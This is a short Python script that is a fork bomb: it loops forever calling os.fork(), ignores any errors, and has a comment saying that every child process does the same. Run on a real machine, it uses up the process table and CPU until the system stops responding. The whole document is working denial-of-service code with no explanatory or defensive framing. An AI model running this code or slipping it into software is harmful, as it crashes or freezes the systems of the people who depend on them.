# Forks as fast as it can; each child does the same.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
